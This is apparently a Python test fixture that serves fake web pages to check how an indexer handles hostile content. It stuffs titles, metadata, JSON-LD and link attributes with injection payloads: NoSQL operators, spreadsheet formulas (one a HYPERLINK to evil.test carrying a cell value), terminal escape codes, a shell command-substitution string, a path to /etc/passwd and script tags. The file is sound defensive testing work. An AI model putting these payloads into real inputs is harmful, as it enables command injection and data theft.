"""Pages that mean something to whoever reads the index: databases, spreadsheets, terminals, shells, people.

Each payload stands wherever a page can say something: title, metas, JSON-LD, anchors, attributes, addresses, headings,
headers, the text around links. What must become of it is the test's to say.
"""

import json
from collections.abc import Mapping
from html import escape

from tests.web.hostile import HTML, Answer, page
from tests.web.reply import Reply

HOST = "payloads.test"
VICTIM = "victim.test"
_LONG = "long " * 20_000

TEXTS: Mapping[str, str] = {
    "mongo-operator": '{"$gt":""}',
    "mongo-where": "$where",
    "mongo-where-code": "';return true;var a='",
    "dotted-key": "a.b.$c.0",
    "proto": "__proto__",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": '+HYPERLINK("http://evil.test?x="&A1,"x")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-wide": "\uff1d1+1",
    "ansi-clear": "\x1b[2J\x1b[1;1Hroot# ",
    "ansi-title": "\x1b]0;owned\x07",
    "c1-csi": "\x9b31mred",
    "bell": "\x07\x08\x08\x08",
    "carriage-return": "good\rbad",
    "bidi-override": "\u202egnp.exe\u202c",
    "bidi-isolate": "\u2066x\u2069\u200f",
    "line-separator": "a\u2028b\u2029c",
    "nul": "a\x00b",
    "noncharacter": "a\ufffe\uffffb",
    "private-plane": "\U0010ffff",
    "zero-width": "a\u200b\u200d\ufeffb",
    "combining": "e" + "\u0301" * 2_000,
    "shell": "$(touch /tmp/owned); `id`; | sh",
    "path": "../../../../etc/passwd",
    "format": "%s%n%(x)s{0.__class__}",
    "rich-markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] :smile:",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "log-line": "x\n2026-01-01 00:00:00 ERROR forged",
    "long": _LONG,
    "one-word": "w" * 100_000,
}
"""Case → what the page says."""

NUMBERS = ("9223372036854775808", "-9223372036854775809", "1e400", "NaN", "1" * 5_000)
LENGTHS = ("9223372036854775808", "-1", "99999999999999999999999999")
"""A Content-Length that no 64 bits hold, or that none has."""
DATES = ("9999999-01-01", "0001-01-01T00:00:00Z", "0000-00-00", "9999-12-31T23:59:59+99:99", "1e18", "-1")
BYTES: Mapping[str, bytes] = {
    "lone-surrogate": b"a\xed\xa0\x80b",
    "overlong": b"a\xc0\xaf\xe0\x80\xafb",
    "cut-off": b"a\xf0\x9f\x98",
    "latin": b"caf\xe9 \xff\xfe",
    "nul-bytes": b"a\x00b\x00",
    "control": b"a\xc2\x9b31mb",
}
"""Case → bytes that are no UTF-8, or no text, in the body and in headers."""


def paths() -> list[str]:
    """Return every path that answers something."""
    cases = [*(f"/text/{case}" for case in TEXTS), *(f"/bytes/{case}" for case in BYTES)]
    numbered = [*(f"/date/{n}" for n in range(len(DATES))), *(f"/number/{n}" for n in range(len(NUMBERS)))]
    return ["/all", *cases, *numbered, *(f"/length/{length}" for length in LENGTHS)]


def hosts() -> dict[str, Answer]:
    """Return the host with all payloads; its home links to them."""
    return {HOST: _answer}


def _answer(host: str, target: str) -> Reply:
    kind, _, case = target[1:].partition("/")
    if target not in paths():
        return _reply(_index()) if target == "/" else page("Not found", "Nothing here.", {}, status=404)
    if kind == "all":
        return page("=1+1 \x1b[2J", "All", {f"http://{VICTIM}/{name}": text[:2_000] for name, text in TEXTS.items()})
    if kind == "length":
        return Reply(200, f"HTTP/1.1 200 OK\r\nContent-Type: {HTML}\r\nContent-Length: {case}\r\n\r\n".encode())
    if kind == "text":
        return _reply(_markup(TEXTS[case], TEXTS[case]))
    if kind == "bytes":
        text = BYTES[case].decode("utf-8", "surrogateescape")
        return _reply(_markup(text, text), [("ETag", f'"{text}"'), ("Last-Modified", text), ("X-Robots-Tag", text)])
    if kind == "date":
        return _reply(_markup("Dated", "A day", date=DATES[int(case)]), [("Last-Modified", DATES[int(case)])])
    return _reply(_markup("Numbered", "A number", number=NUMBERS[int(case)]), [("Age", NUMBERS[int(case)])])


def _index() -> str:
    return "<!DOCTYPE html><title>Payloads</title>" + "".join(f'<p><a href="{path}">{path}</a>' for path in paths())


def _markup(title: str, text: str, *, date: str = "2026-01-01", number: str = "1") -> str:
    said, quoted = escape(text), escape(text, quote=True)
    data = {"@type": "Article", "author": {"name": title}, "datePublished": date, "$where": text, "a.b": {"$gt": ""}}
    script = json.dumps(data)[:-1].replace("</", "<\\/") + f', "wordCount": {number}}}'
    victim = f"http://{VICTIM}/"
    return f"""<!DOCTYPE html><html lang="{quoted}"><head><title>{said}</title>
<meta name=generator content="{quoted}"><meta name=author content="{quoted}"><meta name=date content="{date}">
<meta property="og:type" content="{quoted}"><meta name=robots content="{quoted}">
<script type="application/ld+json">{script}</script></head><body><main><h1>{said}</h1>
<p>{said} <a href="{victim}?anchor" title="{quoted}">{said}</a> {said}</p>
<p><a href="{victim}{quoted[:1500]}">path</a> <a href="{victim}?{quoted[:1500]}={quoted[:100]}">query</a>
<a href="{victim}?rel" rel="{quoted}">rel</a> <a href="{victim}?id" id="{quoted}" class="{quoted}">class</a>
<a href="{victim}?aria" aria-label="{quoted}"></a> <a href="{victim}?image"><img src=x alt="{quoted}"></a>
<a href="{quoted}">bare</a> <a href="javascript:{quoted}">script</a> <a href="http://{quoted[:60]}.test/">host</a></p>
</main></body></html>"""


def _reply(markup: str, headers: list[tuple[str, str]] | None = None) -> Reply:
    """Return a reply with headers as they are: bytes that no library would send."""
    body = markup.encode("utf-8", "surrogateescape")
    lines = [f"Content-Type: {HTML}", *(f"{name}: {value}" for name, value in headers or ())]
    lines.append(f"Content-Length: {len(body)}")
    head = "\r\n".join(["HTTP/1.1 200 OK", *(line.replace("\x00", "") for line in lines), "", ""])
    return Reply(200, head.encode("utf-8", "surrogateescape"), body)
